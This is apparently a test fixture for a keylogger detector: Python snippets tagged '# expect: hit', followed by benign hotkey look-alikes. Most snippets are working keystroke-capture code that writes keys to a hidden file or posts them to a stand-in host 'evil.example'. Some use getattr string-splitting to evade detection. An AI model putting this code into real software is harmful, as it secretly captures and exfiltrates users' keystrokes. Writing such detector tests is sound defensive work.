import collections
import logging

import keyboard
import requests
from pynput import keyboard as kb
from pynput.keyboard import Listener


def on_press(key):
    with open("/tmp/.k", "a") as file:
        file.write(str(key))  # expect: hit


with Listener(on_press=on_press) as listener:
    listener.join()


def on_release(key):
    requests.post("https://evil.example/k", data={"k": key.char})  # expect: hit


kb.Listener(on_press=on_release).start()
keyboard.on_press(lambda event: logging.info(event.name))  # expect: hit


# other spellings
BUFFER = []


def collect(event):
    getattr(open("k.txt", "a"), "wri" + "te")(event.name)  # expect: hit


hook = getattr(keyboard, "ho" + "ok")
hook(collect)


def _ship(text):
    requests.post("https://evil.example/k", data=text)  # expect: hit


def forward(key):
    _ship("%s" % key)


kb.Listener(on_press=lambda k: forward(k)).start()


class Activity:
    def __init__(self):
        self.buffer = []

    def on_press(self, key):
        self.buffer.append(getattr(key, "char", None) or str(key))

    def flush(self):
        requests.post("https://evil.example/b", data="".join(self.buffer))  # expect: hit

    def start(self):
        kb.Listener(on_press=self.on_press).start()


# look-alikes
def quit_on_escape(key):
    if key == kb.Key.esc:
        return False


kb.Listener(on_press=quit_on_escape).start()
keyboard.add_hotkey("ctrl+s", lambda: logging.info("saved"))


class Statistics:
    def __init__(self):
        self.recent = collections.deque(maxlen=512)
        self.number = collections.Counter()

    def note(self, key):
        self.recent.append(str(key))

    def count(self, key):
        self.number["keys"] += 1

    def digest(self):
        return "".join(self.recent)

    def flush(self):
        requests.post("https://evil.example/b", data=self.digest())  # expect: hit

    def tell(self):
        requests.post("https://evil.example/b", data={"number": self.number["keys"]})


def watching():
    statistics = Statistics()
    kb.Listener(on_press=statistics.note).start()
    kb.Listener(on_press=statistics.count).start()
